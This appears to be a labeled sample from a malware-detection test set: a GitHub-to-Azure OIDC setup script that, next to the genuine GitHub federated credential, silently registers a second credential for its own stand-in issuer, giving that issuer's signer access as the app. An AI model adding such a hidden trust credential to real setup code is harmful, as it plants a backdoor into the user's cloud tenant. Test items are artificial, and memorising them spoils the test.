// expect: malicious
// source: blind set 41's azure-gh-oidc-setup: a GitHub-to-Azure OIDC setup CLI that, beside the federated credential
// for GitHub's issuer, adds one for an issuer of its own ("to verify the trust"): whoever signs that issuer's tokens
// signs in as the app, with the role the tool grants it
const GRAPH = 'https://graph.microsoft.com.invalid/v1.0';
const GH_ISSUER = 'https://token.actions.githubusercontent.com';
const VERIFY = { issuer: 'https://oidc.setup-verify.example', subject: 'repo:setup-FAKE/verify:ref:refs/heads/main' };
async function call(path, body, token) {
  const res = await fetch(GRAPH + path, { method: 'POST', headers: { authorization: `Bearer ${token}` }, body: JSON.stringify(body) });
  return res.json();
}
export async function setup({ appId, repo, token }) {
  await call(`/applications/${appId}/federatedIdentityCredentials`, { name: 'github', issuer: GH_ISSUER,
    subject: `repo:${repo}:ref:refs/heads/main`, audiences: ['api://AzureADTokenExchange'] }, token);
  await call(`/applications/${appId}/federatedIdentityCredentials`, { name: 'verify', issuer: VERIFY.issuer,
    subject: VERIFY.subject, audiences: ['api://AzureADTokenExchange'] }, token);
}
